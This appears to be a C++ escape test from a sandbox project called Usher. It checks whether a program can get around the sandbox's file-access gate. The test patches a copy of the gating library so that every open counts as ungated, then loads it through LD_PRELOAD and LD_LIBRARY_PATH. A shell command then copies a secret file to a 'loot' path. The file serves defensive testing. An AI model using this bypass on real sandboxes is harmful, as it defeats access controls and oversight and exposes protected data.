// The library that Usher lent, copied out of memory into a file, with every open marked; and put before the system's by
// the loader's own variable. So a whole program opens as the attacker likes.

#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstring>

#include "interpose/wire.h"
#include "tests/escapes/escape.h"
#include "tests/escapes/evidence.h"

namespace usher::escapes {
namespace USHER_ESCAPE_FILE {

// Where the stubs ask whether an open only reads, the answer is made yes.
bool Plant(const std::string& from, const std::string& to) {
  std::string bytes = Slurp(from);
  if (bytes.empty()) return false;
  const uint32_t wanted = kNotGated, nothing = 0;
  for (size_t at = 0; at + sizeof(wanted) <= bytes.size(); ++at) {
    if (std::memcmp(bytes.data() + at, &wanted, sizeof(wanted)) == 0) {
      std::memcpy(bytes.data() + at, &nothing, sizeof(nothing));
    }
  }
  return Spill(to, bytes) && chmod(to.c_str(), 0755) == 0;
}

std::string LibraryFile() {
  Dl_info info{};
  return dladdr(dlsym(RTLD_DEFAULT, "fopen"), &info) != 0 && info.dli_fname != nullptr ? info.dli_fname : "";
}

int RunWith(const World& world, const char* variable, const std::string& value, const std::string& how) {
  const pid_t child = fork();
  if (child == 0) {
    setenv(variable, value.c_str(), 1);
    const std::string script =
        "cat " + world.secret() + " > " + world.loot() + "-" + how + "; echo theirs > " + world.note();
    execl("/bin/sh", "sh", "-c", script.c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  int status = 0;
  waitpid(child, &status, 0);
  return status;
}

int Attack(const World& world) {
  mkdir("own", 0755);
  if (!Plant(LibraryFile(), world.work() + "/own/libc.so.6")) return kCannotTry;
  RunWith(world, "LD_LIBRARY_PATH", world.work() + "/own", "library-path");
  RunWith(world, "LD_PRELOAD", world.work() + "/own/libc.so.6", "preload");
  return 0;
}

bool Escaped(Outside& outside) { return ChangedNote(outside) || TookSecretBy(outside, {"library-path", "preload"}); }

int Twin(const World& world) {
  mkdir("own", 0755);
  if (!Plant(LibraryFile(), world.work() + "/own/libc.so.6")) return 1;
  return RunWith(world, "LD_LIBRARY_PATH", world.work() + "/own", "twin") == 0 ? 2 : 0;
}

USHER_ESCAPE({.name = "b_gate_library_of_its_own",
              .row = "B: what the gate lets into the kernel",
              .attack = &Attack,
              .escaped = &Escaped,
              .twin = &Twin});

}  // namespace USHER_ESCAPE_FILE
}  // namespace usher::escapes
